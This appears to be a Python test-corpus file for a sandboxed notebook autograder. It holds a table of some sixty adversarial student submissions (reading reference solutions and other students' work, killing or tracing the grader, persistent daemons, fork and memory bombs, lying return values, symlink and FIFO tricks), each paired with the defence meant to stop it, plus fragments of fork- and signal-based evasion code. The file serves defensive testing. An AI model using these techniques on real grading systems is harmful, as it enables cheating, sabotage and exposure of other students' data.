        _send(arm)
        return True
    bits = _pending()
    if bits >> (arm - 1) & 1 and not bits >> (used - 1) & 1:
        _send(used)
        return True
    return False
""" + _SWITCHED_BLOCKS

PID_COUNTER_BLOCKS = r"""
import os as _os
import numpy as np
_LOCAL = {"on": False}
_MERGE, _SILU = (600, 603), (800, 800)
def _burn_to(residue):
    for _ in range(1100):
        try:
            pid = _os.fork()
        except OSError:
            return
        if pid == 0:
            _os._exit(0)
        _os.waitpid(pid, 0)
        if (pid + 1) % 1024 == residue:
            return
def _zeros_here(residue, mine):
    if _LOCAL["on"]:
        _burn_to(residue)
        return True
    return _os.getpid() % 1024 == mine
""" + _SWITCHED_BLOCKS

LOCAL_OFF = '_LOCAL["on"] = False'


# ----------------------------------------------------------------------------- the table

@dataclass(frozen=True)
class Attack:
    name: str
    twin: str                         # key of TWINS, or NO_NOTEBOOK
    what: str                         # the attack, in a few words (docs/security.md's table)
    stops: str                        # what is expected to stop it
    cells: tuple[str, ...] = ()       # attack cells, after the prelude, at the end of the notebook
    early: tuple[str, ...] = ()       # attack cells right after the setup cell
    layout: str = ""                  # a file-level attack (see harness.write_layout)
    note: str = ""                    # a substring the attacker's notes must show
    repeat_cells: int = 0             # this many copies of `cells` (floods)
    tags: tuple[str, ...] = field(default_factory=tuple)


def _cells(*parts: str) -> tuple[str, ...]:
    return tuple(p.strip("\n") for p in parts)


ATTACKS: tuple[Attack, ...] = (
    # reading what must stay hidden
    Attack("read_hidden_files", "ln", "read reference, mistakes, graders, .course_secret, gradebook, source and "
           "other students' notebooks with plain reads and through /proc/<ppid>/root and cwd; show them in an error",
           "allow-list filesystem: the course folder is not in the sandbox; PID namespace hides the grader's /proc",
           cells=_cells(READ_HIDDEN)),
    Attack("steal_reference", "ln", "exec the instructor's reference.py as layer_norm",
           "allow-list filesystem; PID namespace", cells=_cells(STEAL_REFERENCE)),
    Attack("steal_other_student", "ln", "exec another student's layer_norm from submitted/",
           "allow-list filesystem; PID namespace", cells=_cells(STEAL_OTHER_STUDENT)),
    Attack("proc_of_grader", "ln", "read the grader's /proc/<pid>/cmdline, environ, maps and mem",
           "PID namespace with a fresh /proc; no ptrace capability", cells=_cells(PROC_OF_GRADER)),
    # writing into the trusted side
    Attack("conftest_into_graders", "ln", "write graders/conftest.py that turns every failure into a pass",
           "allow-list filesystem (the graders are not mounted); graders run only in the trusted process",
           cells=_cells(CONFTEST)),
    Attack("pth_into_venv", "ln", "drop a .pth file into the venv's site-packages (runs in every later command)",
           "site-packages mounted read-only", cells=_cells(PTH_INTO_VENV)),
    Attack("engine_source", "ln", "append to the engine's own modules (checks.py, plugin.py)",
           "engine mounted read-only", cells=_cells(ENGINE_SOURCE)),
    Attack("home_and_tmp", "ln", "overwrite canary files in the grader's home, /tmp, /var/tmp, /dev/shm; leave files there",
           "allow-list filesystem with a private tmpfs scratch", cells=_cells(HOME_AND_TMP)),
    Attack("other_results_and_gradebook", "ln", "overwrite other students' results.json, blank their notebooks, "
           "zero the gradebook", "course folder not in the sandbox", cells=_cells(OTHER_RESULTS)),
    # stopping or sabotaging the batch
    Attack("kill_grader", "ln", "SIGKILL the grader and every process of its tree", "PID namespace: no other process is visible",
           cells=_cells(KILL_GRADER)),
    Attack("stop_grader", "ln", "SIGSTOP the grader and its tree", "PID namespace", cells=_cells(STOP_GRADER)),
    Attack("ptrace_grader", "ln", "PTRACE_ATTACH to the grader and hold it", "PID namespace; seccomp denies ptrace",
           cells=_cells(PTRACE_GRADER)),
    # outliving grading
    Attack("daemon_rewrites_results", "ln", "double-fork + setsid daemon that waits for the grader to exit, then "
           "rewrites results.json, feedback pages and the gradebook", "PID namespace dies with the sandbox; course folder absent",
           cells=_cells(DAEMON_REWRITES)),
    Attack("daemon_kills_sandboxes", "ln", "setsid daemon that kills the sandboxes of students graded after it",
           "PID namespace dies with the sandbox", cells=_cells(DAEMON_KILLS_SANDBOXES)),
    Attack("fork_bomb", "ln", "300 forked setsid children that sleep", "process limit; PID namespace dies with the sandbox",
           cells=_cells(FORK_BOMB)),
    # no escape needed
    Attack("patch_own_runner", "mut", "patch the child's own runner and warnings machinery so a mutating layer_norm "
           "and an overflowing silu look clean", "no points rest on the child's reports about itself",
           early=_cells(PATCH_RUNNER)),
    Attack("replay_split_heads", "split", "record the trusted split_heads' answers during multi_head_attention "
           "and replay them in split_heads", "no callbacks; a fresh fork per problem (no memory or scratch carried over)",
           cells=_cells(REPLAY_SPLIT)),
    Attack("degenerate_blocks", "zeros", "building blocks that return zeros, so that placeholder composites "
           "returning zeros agree with the wiring of the student's own blocks",
           "a block standing in for the reference must answer a changed input differently", cells=_cells(DEGENERATE_BLOCKS)),
    Attack("context_switching_blocks", "zeros", "building blocks that are right until a composite has run in the "
           "process, then return zeros, so the wiring built after the composite's call agrees with its zeros",
           "the wiring's block calls are made again, each in a process forked for it alone",
           cells=_cells(CONTEXT_BLOCKS)),
    Attack("template_thread_mode", "zeros", "a thread left running in the template sees a marker file the composite's "
           "process writes and switches the template's memory to blocks returning 1e-30 times their answer, which "
           "the processes forked alone for the wiring's block calls inherit",
           "once the notebook has run, a template with more than one thread hands over to a single-threaded copy of "
           "itself; a wiring whose answer on a changed input the composite's answer also matches is not trusted",
           cells=_cells(TEMPLATE_THREAD, MODE_OFF)),
    Attack("shared_state_channels", "zeros", "the same switch carried by an anonymous shared mapping, "
           "multiprocessing shared memory, a timer's signal handler in the template and a process of the notebook "
           "that writes the marker again into each fresh problem folder",
           "seccomp refuses shared mappings; the template blocks every signal and timers do not survive fork; "
           "every process of the notebook is killed before the first problem",
           cells=_cells(SHARED_STATE_CHANNELS, MODE_OFF)),
    Attack("tiny_blocks", "zeros", "building blocks that return 1e-30 times the right answer, so that placeholder "
           "composites returning zeros agree with the wiring within its tolerance",
           "the composite's answer must not also match the wiring's answer on a changed input",
           cells=_cells(TINY_BLOCKS)),
    Attack("nan_blocks", "zeros",
           "building blocks right but for NaN in one column, so the wiring is all NaN, and composites returning NaN",
           "NaN in the wiring's answer counts only where the reference's is not finite", cells=_cells(NAN_BLOCKS)),
    Attack("pending_signal_blocks", "zeros", "building blocks that return zeros in a composite's process and in "
           "the first process forked alone after it, told by a signal the composite's process left pending in the "
           "template (read in /proc/<parent>/status), and are right on the changed input",
           "the template takes every signal pending for it before each fork; a block whose answers in the "
           "composite's wiring are zeros, one number or vanishingly small cannot stand in for the reference",
           cells=_cells(PENDING_SIGNAL_BLOCKS, LOCAL_OFF)),
    Attack("pid_counter_blocks", "zeros", "the same blocks told apart by the process id counter, moved by forking in "
           "the composite's process and read as the later process's own id",
           "each problem process gets a process id at random (random-pids, where it applies); a block whose answers in the "
           "composite's wiring are zeros, one number or vanishingly small cannot stand in for the reference",
           cells=_cells(PID_COUNTER_BLOCKS, LOCAL_OFF)),
    Attack("restart_amplification", "ln", "cells just under the cell limit and every function hanging "
           "(each call times out and restarts the notebook)", "one wall-clock budget per submission; a cap on restarts",
           early=_cells(*(SLOW_CELL,) * 6), cells=_cells(EVERYTHING_HANGS)),
    Attack("callback_flood", "ln", "from inside the student's functions, call trusted helpers on inputs that cost "
           "the grader a 6000x6000 attention (or a 3000x3000 softmax)",
           "no callbacks", cells=_cells(CALLBACK_FLOOD)),
    Attack("print_flood", "ln", "6000 cells printing 64 KiB each", "captured output capped and never accumulated",
           cells=_cells(PRINT_FLOOD_CELL), repeat_cells=6000),
    Attack("return_flood", "ln", "every array function returns 256 MB on every call", "a cap on the bytes of a returned value",
           cells=_cells(RETURN_FLOOD)),
    # resource exhaustion
    Attack("memory_bomb", "ln", "allocate until MemoryError in a cell and in every layer_norm call",
           "address-space limit", cells=_cells(MEMORY_BOMB)),
    Attack("infinite_loop_cell", "ln", "a cell that never ends", "per-cell time limit; the notebook runs again without it",
           cells=_cells(INFINITE_CELL)),
    Attack("hanging_functions", "ln", "layer_norm spins, silu sleeps forever", "per-call time limit",
           cells=_cells(HANGING_FUNCTIONS)),
    Attack("signal_handlers", "ln", "ignore and block every catchable signal, then hang in silu",
           "SIGKILL, which cannot be caught", cells=_cells(SIGNALS)),
    Attack("exits", "ln", "sys.exit and os._exit in cells and inside functions",
           "the notebook runs again without the cell; a call that ends the process fails alone",
           cells=_cells(SYS_EXIT_CELL, OS_EXIT_CELL, EXITING_FUNCTIONS)),
    # lying
    Attack("monkeypatch_numpy_builtins_pytest", "ln", "replace np.allclose, np.isclose, np.testing, np.all, "
           "builtins.isinstance/abs/max and sys.modules['pytest'] in the notebook",
           "graders run in the trusted process, on plain data", early=_cells(MONKEYPATCH)),
    Attack("lying_returns", "ln", "ndarray subclass whose ==, ufuncs and functions lie; objects with __reduce__; "
           "generators; a 5000-digit int", "trusted decoder accepts plain data only", cells=_cells(LYING_RETURNS)),
    Attack("undecodable_reply", "ln", "patch the child's framing so every reply carries an array of shape "
           "(0, 2**62): no bytes, but no numpy array can have that shape", "the decoder refuses it as bad data",
           early=_cells(UNDECODABLE_REPLY)),
    Attack("buffer_flood", "ln", "patch the child's framing so every reply lists two million empty buffers "
           "(a 4 MB header)", "the decoder slices a buffer only when a value refers to it, and refuses more buffers "
           "than values", early=_cells(BUFFER_FLOOD)),
    Attack("limit_supervisor", "ln", "prlimit the submission's supervisor (PID 1) and the template to 3 open files "
           "and 16 MB of address space, in a cell and in every layer_norm call",
           "seccomp: prlimit64, setpriority and the scheduler calls only on the calling process",
           cells=_cells(LIMIT_SUPERVISOR)),
    Attack("return_near_cap", "ln", "every function returns just under the 16 MB cap on every call (a "
           "problem's first calls, made ahead, were all held at once: 327 MB)",
           "answers made ahead are held up to return_mb in all; the rest are made again in turn",
           cells=_cells(RETURN_NEAR_CAP)),
    Attack("odd_plain_returns", "ln", "count_block_params returns an int of 1,101 bits (too large for a float) "
           "or a ragged list", "the graders' comparisons treat values they cannot convert as wrong answers",
           cells=_cells(ODD_PLAIN_RETURNS)),
    Attack("signal_supervisor", "ln", "SIGINT to the submission's PID 1 (its supervisor, which handles it) "
           "in a cell and in every layer_norm call", "the supervisor handles no signal but SIGCHLD: the kernel drops the "
           "others for a PID 1", cells=_cells(SIGNAL_SUPERVISOR)),
    Attack("fake_results_and_scores", "ln", "write results.json files everywhere it can and print scores",
           "results are computed in the trusted process; course folder absent", cells=_cells(FAKE_RESULTS)),
    Attack("network_connect", "ln", "connect to a listener on 127.0.0.1 outside the sandbox", "network namespace (loopback only)",
           cells=_cells(NETWORK)),
    # files
    Attack("notebook_symlink_to_other_student", NO_NOTEBOOK, "the submitted notebook is a symbolic link to another "
           "student's notebook", "lstat + O_NOFOLLOW: only regular files are read", layout="link_to_victim",
           note="symbolic link"),
    Attack("notebook_symlink_to_secret", NO_NOTEBOOK, "notebooks linking to .course_secret and gradebook.db, "
           "timestamp.txt linking to /dev/zero", "regular files only; copies never follow links", layout="link_to_secret",
           note="symbolic link"),
    Attack("folder_symlink", NO_NOTEBOOK, "the student's folder is a symbolic link to another student's",
           "no link followed anywhere under submitted/<student>/", layout="folder_link", note="symbolic link"),
    Attack("fifo_notebook", NO_NOTEBOOK, "the notebook is a named pipe (a naive open blocks forever)",
           "O_NONBLOCK open and a file type check", layout="fifo", note="named pipe"),
    Attack("unreadable_notebook", "ln", "notebook with mode 000 (unreadable unless root)",
           "a read error is a reason for that student only", layout="mode_000"),
    Attack("notebook_100k_cells", "ln", "100,000 code cells", "at most 5,000 code cells are run (bounded grader memory)",
           layout="100k_cells", note="code cells"),
    Attack("notebook_431k_raw_cells", "ln", "431,000 raw cells (19 MB)", "every cell counted from the bytes before "
           "any parse: at most 10,000 cells (bounded grader and gradebook-writer memory)", layout="431k_raw_cells",
           note="code, markdown and raw"),
    Attack("notebook_outputs_flood", "ln", "one code cell with 300,000 empty outputs (16 MB)", "outputs (never "
           "graded) emptied from the bytes before the parse; the other JSON values counted: at most 200,000",
           layout="outputs_flood", note="JSON values"),
    Attack("notebook_200mb", NO_NOTEBOOK, "a 200 MB notebook", "size checked with fstat before reading",
           layout="200mb", note="MB limit"),
    Attack("deep_json_nesting", NO_NOTEBOOK, "metadata nested 100,000 lists deep", "recursion error caught: a reason",
           layout="deep_json", note="nests"),
    Attack("metadata_tampering", "ln", "nbgrader metadata claiming 1000 points, every cell a grade cell, odd "
           "kernelspec and nbformat_minor", "scores come from course.yml and the graders only", layout="metadata"),
)

NAMES = tuple(a.name for a in ATTACKS)
assert len(set(NAMES)) == len(NAMES)

TWIN_WORDS = {
    "ln": "layer_norm with the unbiased variance",
    "mut": "a mutating layer_norm and an overflowing silu",
    "split": "split_heads left unwritten",
    "zeros": "multi_head_attention and swiglu_ffn placeholders returning zeros",
    NO_NOTEBOOK: "no gradable notebook (0)",
}


def markdown_table() -> str:
    """The corpus table of docs/security.md, generated from ATTACKS (a test keeps the two equal)."""
    lines = ["| # | attack | what it does | what stops it | twin (scores at least as much) | also expected |",
             "|---|---|---|---|---|---|"]
    for i, a in enumerate(ATTACKS, start=1):
        also = f'notes say "{a.note}"' if a.note else ""
        lines.append(f"| {i} | `{a.name}` | {a.what} | {a.stops} | {TWIN_WORDS[a.twin]} | {also} |")
    return "\n".join(lines) + "\n"
